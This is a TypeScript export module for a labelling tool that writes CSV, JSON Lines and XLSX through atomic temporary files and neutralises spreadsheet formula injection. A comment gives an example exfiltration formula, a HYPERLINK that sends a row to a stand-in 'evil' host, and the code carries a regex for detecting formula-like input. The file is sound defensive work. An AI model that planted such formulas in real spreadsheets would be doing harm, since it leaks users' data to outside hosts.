/**
 * Labelled data out: CSV (RFC 4180), JSON Lines or XLSX, either the current label of each labelled item
 * or the full label-event history. Written to a temporary file and renamed, so a failed export
 * never leaves half a file where the analyst expects a whole one.
 */
import { closeSync, existsSync, openSync, realpathSync, renameSync, rmSync, statSync, writeFileSync, writeSync } from 'node:fs';
import { resolve } from 'node:path';
import type { ExportFormat, ExportResult } from '../../common/contract';
import { StudioError } from '../../common/errors';
import type { Project } from '../db/project';
import ExcelJS from 'exceljs';

const currentColumns = ['id', 'external_id', 'text', 'label', 'annotator', 'labelled_at', 'split'] as const;
const historyColumns = ['event_id', 'item_id', 'external_id', 'text', 'label', 'annotator', 'origin', 'created_at', 'action_id'] as const;

const currentSql = `
  SELECT i.id, i.external_id, i.text, c.label, c.annotator, c.created_at AS labelled_at, s.split
  FROM current_labels c JOIN items i ON i.id = c.item_id LEFT JOIN item_splits s ON s.item_id = i.id
  ORDER BY i.id`;
const historySql = `
  SELECT e.id AS event_id, e.item_id, i.external_id, i.text, e.label, e.annotator, e.origin, e.created_at, e.action_id
  FROM label_events e JOIN items i ON i.id = e.item_id ORDER BY e.id`;

/**
 * Spreadsheet formula injection (OWASP "CSV Injection"): a review that opens with `=`, `+`, `-`,
 * `@`, a tab or a carriage return is run as a formula when the export is opened in Excel,
 * LibreOffice or Google Sheets (`=HYPERLINK("http://evil/?"&A2, "details")` sends the row away).
 * The full-width forms count too: Excel in East Asian locales reads `＝` as `=`.
 */
export function looksLikeFormula(text: string): boolean {
  return /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(text);
}

/**
 * A CSV field, quoted as RFC 4180 needs. Text that a spreadsheet would run as a formula gets the
 * OWASP prefix, a single quote, which every spreadsheet shows as text; numbers (ids, scores) are
 * left alone, since a negative number is no formula.
 */
export function csvField(value: unknown): string {
  if (value === null || value === undefined) return '';
  let s = String(value);
  if (typeof value === 'string' && looksLikeFormula(s)) s = `'${s}`;
  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/**
 * An XLSX cell value. exceljs writes plain strings as `t="str"`, the type of a formula's cached
 * result; text that looks like a formula goes in as an inline string (`t="inlineStr"`) instead,
 * which no spreadsheet evaluates. The text itself stays as it was: unlike CSV, the cell type
 * already says it is text.
 */
export function xlsxCellValue<T>(value: T): T | { richText: { text: string }[] } {
  return typeof value === 'string' && looksLikeFormula(value) ? { richText: [{ text: value }] } : value;
}

class BufferedFile {
  private parts: string[] = [];
  private size = 0;
  constructor(private readonly fd: number) {}
  write(s: string): void {
    this.parts.push(s);
    this.size += s.length;
    if (this.size > 1 << 20) this.flush();
  }
  flush(): void {
    if (this.parts.length) writeSync(this.fd, this.parts.join(''));
    this.parts = [];
    this.size = 0;
  }
}

function canonicalPath(path: string): string {
  return existsSync(path) ? realpathSync(path) : resolve(path);
}

/** Writes `bytes` to a temporary name beside `path`, then renames: never half a file at `path`. */
export function writeFileAtomically(path: string, bytes: Buffer): void {
  const temp = `${path}.partial-${process.pid}`;
  try {
    writeFileSync(temp, bytes);
    renameSync(temp, path);
  } catch (error) {
    rmSync(temp, { force: true });
    throw new StudioError('invalid-input', `cannot write ${path}: ${(error as Error).message}`, { cause: error });
  }
}

/** Refuses targets that would destroy the project or, unless asked, any existing file. */
export function checkExportTarget(project: Project, path: string, overwrite: boolean): void {
  const target = canonicalPath(path);
  const own = canonicalPath(project.path);
  if ([own, `${own}-wal`, `${own}-shm`, `${own}-journal`].includes(target)) {
    throw new StudioError('invalid-input', `${path} is the project file itself; choose another file to export to.`);
  }
  if (!existsSync(target)) return;
  if (statSync(target).isDirectory()) throw new StudioError('invalid-input', `${path} is a folder; choose a file name.`);
  if (!overwrite) throw new StudioError('invalid-input', `${path} already exists; choose another name or allow overwriting.`);
}

export interface ExportRequest {
  path: string;
  format: ExportFormat;
  history: boolean;
  overwrite: boolean;
}

/** Excel's own limits: longer cells are cut (and counted), more rows are refused. */
const xlsxCellLimit = 32_767;
const xlsxRowLimit = 1_048_576;

async function exportXlsx(project: Project, path: string, columns: readonly string[], history: boolean): Promise<ExportResult & { truncatedCells: number }> {
  const sql = history ? historySql : currentSql;
  // Counted before the workbook's file stream opens, so a refusal leaves no file behind.
  const total = project.db.prepare<[], { n: number }>(`SELECT COUNT(*) AS n FROM (${sql})`).get()!.n;
  if (total + 1 > xlsxRowLimit) throw new StudioError('invalid-input', `Excel holds at most ${xlsxRowLimit.toLocaleString('en')} rows and this export has ${total.toLocaleString('en')}; export as CSV or JSON Lines instead.`);
  const rows = project.db.prepare<[], Record<string, unknown>>(sql);
  const temp = `${path}.partial-${process.pid}`;
  let count = 0;
  let truncatedCells = 0;
  try {
    const workbook = new ExcelJS.stream.xlsx.WorkbookWriter({ filename: temp, useSharedStrings: false, useStyles: true });
    const sheet = workbook.addWorksheet(history ? 'Label history' : 'Labels', { views: [{ state: 'frozen', ySplit: 1 }] });
    sheet.columns = columns.map((c) => ({ header: c, key: c, width: c === 'text' ? 80 : 16 }));
    sheet.getRow(1).font = { bold: true };
    sheet.getRow(1).commit();
    for (const row of rows.iterate()) {
      const values = Object.fromEntries(
        columns.map((c) => {
          const v = row[c] ?? null;
          if (typeof v === 'string' && v.length > xlsxCellLimit) {
            truncatedCells++;
            return [c, xlsxCellValue(v.slice(0, xlsxCellLimit))];
          }
          return [c, xlsxCellValue(v)];
        }),
      );
      sheet.addRow(values).commit();
      count++;
    }
    sheet.commit();
    await workbook.commit();
    renameSync(temp, path);
  } catch (error) {
    rmSync(temp, { force: true });
    if (StudioError.is(error)) throw error;
    throw new StudioError('internal', `export to ${path} failed: ${(error as Error).message}`, { cause: error });
  }
  return { path, rows: count, truncatedCells };
}

export async function exportLabelledData(project: Project, request: ExportRequest): Promise<ExportResult> {
  const { path, format, history, overwrite } = request;
  checkExportTarget(project, path, overwrite);
  if (format === 'xlsx') return exportXlsx(project, path, history ? historyColumns : currentColumns, history);
  return exportText(project, request);
}

function exportText(project: Project, { path, format, history }: ExportRequest): ExportResult {
  const columns: readonly string[] = history ? historyColumns : currentColumns;
  const rows = project.db.prepare<[], Record<string, unknown>>(history ? historySql : currentSql);
  const temp = `${path}.partial-${process.pid}`;
  let fd: number;
  try {
    fd = openSync(temp, 'w');
  } catch (error) {
    throw new StudioError('invalid-input', `cannot write ${path}: ${(error as Error).message}`, { cause: error });
  }
  let count = 0;
  try {
    const out = new BufferedFile(fd);
    if (format === 'csv') out.write('\uFEFF' + columns.join(',') + '\r\n');
    for (const row of rows.iterate()) {
      if (format === 'csv') out.write(columns.map((c) => csvField(row[c])).join(',') + '\r\n');
      else out.write(JSON.stringify(Object.fromEntries(columns.map((c) => [c, row[c] ?? null]))) + '\n');
      count++;
    }
    out.flush();
    closeSync(fd);
    renameSync(temp, path);
  } catch (error) {
    try {
      closeSync(fd);
    } catch {
      // already closed
    }
    rmSync(temp, { force: true });
    throw new StudioError('internal', `export to ${path} failed: ${(error as Error).message}`, { cause: error });
  }
  return { path, rows: count };
}
